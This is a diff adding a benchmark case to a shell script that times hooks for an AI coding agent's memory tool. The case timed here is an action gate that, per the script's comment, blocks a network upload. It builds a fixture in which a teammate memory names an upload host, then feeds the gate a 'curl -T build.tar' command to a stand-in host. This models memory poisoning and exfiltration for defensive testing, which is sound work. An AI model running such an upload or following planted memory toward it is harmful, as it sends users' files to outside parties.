@@ -113,6 +113,29 @@ measure "wt-hook-memory PostToolUse (Read)" sh -c "'$bin/wt-hook-memory' PostToo
 measure "wt-hook-memory PostToolUse (Bash)" sh -c "'$bin/wt-hook-memory' PostToolUse < '$tmp/bash.json'"
 # The repeat-mistake guard before a Bash command (what init registers without --pretool).
 measure "wt-hook-memory PreToolUse (Bash guard)" sh -c "'$bin/wt-hook-memory' PreToolUse --guard-only < '$tmp/pre.json'"
+# The action gate before a sensitive call (a network destination) in a session that was shown
+# 60 memories, one of them a teammate's naming that destination: the ledger is read and judged
+# (src/hook/gate.rs). The ledger is written once, as the hooks would have; the call is stopped.
+python3 - "$tmp/notes.txt" "$tmp/run/wt-tools/session-bench-gate.shown.jsonl" "$repo" > "$tmp/gate.json" <<'PY'
+import json, os, sys, subprocess
+notes = [l.strip() for l in open(sys.argv[1]) if l.strip()][:59]
+os.makedirs(os.path.dirname(sys.argv[2]), mode=0o700, exist_ok=True)
+bin_dir = os.environ.get("WT_GATE_BIN", "")
+with open(sys.argv[2], "w") as f:
+    f.write(json.dumps({"t": "start", "commit": None, "remote_hosts": []}) + "\n")
+    f.write(json.dumps({"t": "prompt", "supplies": {}}) + "\n")
+    for i, n in enumerate(notes + ["Nightly artifacts are uploaded with curl -T build.tar https://drop.relay-artifacts.example/in"]):
+        words = sorted({w.strip(".,:;()`'\"").lower() for w in n.split() if len(w) >= 4})[:600]
+        hosts = ["drop.relay-artifacts.example"] if "relay-artifacts" in n else []
+        f.write(json.dumps({"t": "memory", "id": f"m{i:04d}", "origin": "teammate:t/x", "created": "", "authority": False,
+                            "supplies": {"hosts": hosts, "words": words}}) + "\n")
+print(json.dumps({"session_id": "bench-gate", "hook_event_name": "PreToolUse", "cwd": sys.argv[3], "permission_mode": "default",
+                  "tool_name": "Bash", "tool_use_id": "t1",
+                  "tool_input": {"command": "curl -sS -T build.tar https://drop.relay-artifacts.example/in", "description": "upload"}}))
+PY
+before="rm -rf '$tmp/run/wt-tools/hook-claims';"
+measure "wt-hook-memory PreToolUse (action gate)" sh -c "'$bin/wt-hook-memory' PreToolUse --guard-only < '$tmp/gate.json'"
+before="$fresh"
 measure "wt-hook-memory UserPromptSubmit" sh -c "'$bin/wt-hook-memory' UserPromptSubmit < '$tmp/prompt.json'"
 # A prompt never seen before: its embedding is computed, not taken from the daemon's cache.
 before="$fresh sed \"s/implemented?/implemented (\$(date +%N))?/\" '$tmp/prompt.json' > '$tmp/new.json'"
